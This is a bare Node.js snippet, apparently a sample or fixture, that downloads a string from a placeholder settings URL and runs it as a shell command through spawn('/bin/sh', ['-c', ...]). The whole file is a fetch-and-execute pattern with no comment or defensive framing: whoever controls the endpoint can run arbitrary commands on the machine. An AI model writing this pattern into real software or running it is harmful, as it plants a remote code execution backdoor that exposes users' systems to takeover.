const { spawn } = require('node:child_process');
const got = require('got');
(async () => {
  const command = await got('https://settings.example.invalid/v1').text();
  const words = ['-c', command];
  spawn('/bin/sh', words);
})();
